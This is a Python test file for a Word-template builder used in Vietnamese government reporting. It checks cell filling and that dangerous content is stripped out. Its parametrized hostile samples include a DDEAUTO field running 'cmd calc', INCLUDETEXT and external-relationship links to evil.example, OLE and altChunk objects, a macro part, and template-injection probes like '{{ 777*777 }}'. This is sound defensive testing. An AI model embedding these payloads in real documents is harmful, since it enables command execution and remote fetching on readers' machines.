"""The ministry's own Word file as a template: it prints what it printed, with figures in the cells;
nothing that acts is left in it."""

from __future__ import annotations

from datetime import date
from io import BytesIO
from zipfile import ZipFile

import pytest
from docx import Document

from conversations.answer_types.reader import read_answer
from conversations.answers.values import Answer, AnswerState, Names
from conversations.calendar.periods import Period
from conversations.forms.growth import grow_form, item_key
from conversations.forms.model import Form
from conversations.parsing.result import ReadValue, as_answer
from conversations.reports.model import LetterReference, OrgUnit, Report
from templates.appendix_import.errors import FileRefusedError
from templates.documents.template_check import template_problems
from templates.documents.word.render import render_word
from templates.form_draft.model import FormDraft
from templates.form_draft.output.form_text import FormAbout, write_form_text
from templates.form_draft.output.word_template import make_word_template
from templates.loading.form_folder import parse_form
from templates.loading.yaml_reader import read_yaml
from tests.templates.form_draft.output.word_files import (
    change_part,
    make_library_file,
    make_price_file,
    place_library_draft,
    place_price_draft,
    read_part,
)


def form_of(draft: FormDraft) -> Form:
    text = write_form_text(draft, FormAbout(draft.name, "2026.1", "appendix.docx"))
    form = parse_form(read_yaml(text.encode(), "form.yaml"))
    assert isinstance(form, Form), form
    return form


def report_of(form: Form, texts: dict[str, str], note: str | None = None) -> Report:
    day = date(2026, 3, 31)
    report = Report(
        form_key=form.key,
        form_version=form.version,
        unit=OrgUnit(name="Thư viện huyện", short_name="TV", abbreviation="TV"),
        period=Period(name="Quý I/2026", start=date(2026, 1, 1), end=day),
        issue=LetterReference(month=4, year=2026),
    )
    for key, text in texts.items():
        read = read_answer(form.row(key), text)
        assert isinstance(read, ReadValue)
        report = report.with_answer(key, as_answer(read, note))
    return report


def texts_of(content: bytes) -> list[list[str]]:
    table = Document(BytesIO(content)).tables[0]
    return [[cell.text for cell in row.cells] for row in table.rows]


def test_only_the_cells_that_are_filled_in_differ() -> None:
    file, draft = make_library_file(), place_library_draft()
    made = make_word_template(draft, file)
    form = form_of(draft)
    assert template_problems(form, made.content) == []
    report = report_of(form, {"01:1": "12", "01:2": "7", "02:1": "4"})
    before, after = texts_of(file), texts_of(render_word(form, report, made.content))
    figures = {(1, 2): "12", (1, 3): "7", (3, 2): "4"}
    for line, (old, new) in enumerate(zip(before, after, strict=True)):
        for at, (one, other) in enumerate(zip(old, new, strict=True)):
            assert other == figures.get((line, at), "" if one == "……" else one) or (
                line == 2 and other == one  # a heading
            )


def test_a_note_stands_in_its_column() -> None:
    draft = place_library_draft()
    made = make_word_template(draft, make_library_file())
    form = form_of(draft)
    report = report_of(form, {"01:1": "12"})
    noted = report.answer("01").model_copy(update={"note": "đếm tay"})
    printed = render_word(form, report.with_answer("01", noted), made.content)
    assert texts_of(printed)[1][4] == "đếm tay"


def test_a_list_repeats_its_blank_line() -> None:
    draft = place_price_draft()
    made = make_word_template(draft, make_price_file())
    form = form_of(draft)
    assert template_problems(form, made.content) == []
    names = ("Gạo", "Muối", "Đường", "Thịt")
    form = grow_form(form, {"T:ds": names})
    texts = {f"{item_key('T', name)}:4": str(at) for at, name in enumerate(names, 7)}
    report = report_of(form, texts).with_answer(
        "T:ds", Answer(state=AnswerState.VALUE, value=Names(names=names))
    )
    lines = texts_of(render_word(form, report, made.content))
    assert [line[:2] + line[3:4] for line in lines[2:]] == [
        [str(at), name, str(at + 6)] for at, name in enumerate(names, 1)
    ]


_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_O = 'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"'
_FIELD = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>GIỮ</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
_LINK = (
    '<Relationship Id="rIdEvil" Target="http://evil.example/x" TargetMode="External" Type="'
    'http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"/></Relationships>'
)


_KEPT = "<w:r><w:t>GIỮ</w:t></w:r>"
_HOSTILE = (
    (_FIELD.format("DDEAUTO cmd calc"), "DDEAUTO", "DDEAUTO"),
    (_FIELD.format("INCLUDETEXT http://evil.example"), "evil", "INCLUDETEXT"),
    (f'<w:fldSimple w:instr="DATE">{_KEPT}</w:fldSimple>', "DATE", ""),
    (f'<w:hyperlink {_R} r:id="rIdEvil">{_KEPT}</w:hyperlink>', "rIdEvil", "siêu"),
    (f'<w:r><w:object {_O}><o:OLEObject Type="E"/></w:object></w:r>', "OLEObject", "OLE"),
    (f'</w:p><w:altChunk {_R} r:id="rIdEvil"/><w:p>', "altChunk", "tệp chèn"),
    (f'<w:ins w:author="Mai">{_KEPT}</w:ins>', "Mai", "sửa đổi"),
    ('<w:del w:author="Mai"><w:r><w:delText>cũ</w:delText></w:r></w:del>', "Mai", "đã xóa"),
    ("<w:r><w:t>{</w:t></w:r><w:r><w:t>{ 777*777 }}</w:t></w:r>", "603729", "ngoặc nhọn"),
    ("<w:r><w:t>{% for x in rows %}</w:t></w:r>", "{% for x", "ngoặc nhọn"),
    ('<w:r w:rsidR="{{ 777*777 }}"><w:t>GIỮ</w:t></w:r>', "603729", ""),
)


@pytest.mark.parametrize(("extra", "gone", "told"), _HOSTILE)
def test_nothing_that_acts_is_left(extra: str, gone: str, told: str) -> None:
    file = change_part(
        make_library_file(f"<w:p>{extra}</w:p>"),
        "word/_rels/document.xml.rels",
        "</Relationships>",
        _LINK.format("hyperlink"),
    )
    draft = place_library_draft()
    made = make_word_template(draft, file)
    form = form_of(draft)
    printed = render_word(form, report_of(form, {}), made.content)
    with ZipFile(BytesIO(printed)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist()).decode()
    assert gone not in everything
    assert "evil.example" not in everything
    assert ("GIỮ" in everything) == ("GIỮ" in extra)
    assert told in " ".join(made.told)


@pytest.mark.parametrize(
    ("kind", "told"),
    [
        ("attachedTemplate", "tệp mẫu khác"),
        ("oleObject", "OLE"),
        ("frame", "khung"),
        ("image", "hình"),
        ("subDocument", "tệp chèn"),
    ],
)
def test_links_out_of_the_file_are_left_out_and_told(kind: str, told: str) -> None:
    file = change_part(
        make_library_file(), "word/_rels/document.xml.rels", "</Relationships>", _LINK.format(kind)
    )
    made = make_word_template(place_library_draft(), file)
    assert told in " ".join(made.told)
    assert "evil" not in read_part(made.content, "word/_rels/document.xml.rels")


def test_macros_do_not_survive() -> None:
    file = change_part(make_library_file(), "word/vbaProject.bin", "", "macro")
    made = make_word_template(place_library_draft(), file)
    assert "macro" in " ".join(made.told)
    with ZipFile(BytesIO(made.content)) as archive:
        assert not [name for name in archive.namelist() if "vba" in name.lower()]


@pytest.mark.parametrize("content", [b"", b"not a file", b"PK\x03\x04 broken"])
def test_what_is_no_word_file_is_refused(content: bytes) -> None:
    with pytest.raises(FileRefusedError):
        make_word_template(place_library_draft(), content)


def test_a_place_that_is_not_in_the_file_is_passed_over() -> None:
    draft = place_library_draft()
    made = make_word_template(draft, make_price_file())
    assert "no place for the value" in str(template_problems(form_of(draft), made.content))
